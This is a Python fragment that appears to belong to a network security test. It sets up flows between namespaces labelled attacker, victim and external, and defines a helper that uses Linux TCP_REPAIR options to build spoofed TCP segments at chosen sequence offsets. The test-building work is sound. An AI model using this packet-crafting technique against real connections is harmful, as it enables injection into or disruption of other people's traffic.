# Flows that are there before: the outside called the attacker by TCP and UDP, and the victim called the outside.
listener = socket.create_server((me4, 90))
caller = inside(EXT, lambda: socket.create_connection((me4, 90)))
answer = listener.accept()[0]
for mine, theirs, outside in ((me4, victim4, ext4), (me6, victim6, ext6)):
    inside(EXT, lambda: udp_from(outside, 5001)).sendto(b'hello', (mine, 77))
    inside(VICTIM, lambda: udp_from(theirs, 5000)).sendto(b'hello', (outside, 10))
theirs4 = IP(src=ext4, dst=victim4) / UDP(sport=10, dport=5000)
theirs6 = IPv6(src=ext6, dst=victim6) / UDP(sport=10, dport=5000)

def stray(distance):
    """A segment of the attacker's side of the connection, that far from where its sender is."""
    repair, queue, sequence, send, off_without_probe = 19, 20, 21, 2, -1  # linux/tcp.h
    answer.setsockopt(socket.IPPROTO_TCP, repair, 1)
    answer.setsockopt(socket.IPPROTO_TCP, queue, send)
    here = answer.getsockopt(socket.IPPROTO_TCP, sequence) % 2**32
    answer.setsockopt(socket.IPPROTO_TCP, queue, 1)
    there = answer.getsockopt(socket.IPPROTO_TCP, sequence) % 2**32
    answer.setsockopt(socket.IPPROTO_TCP, repair, off_without_probe)
    return IP(src=me4, dst=ext4) / TCP(sport=90, dport=answer.getpeername()[1], flags='PA', seq=(here + distance) % 2**32, ack=there)
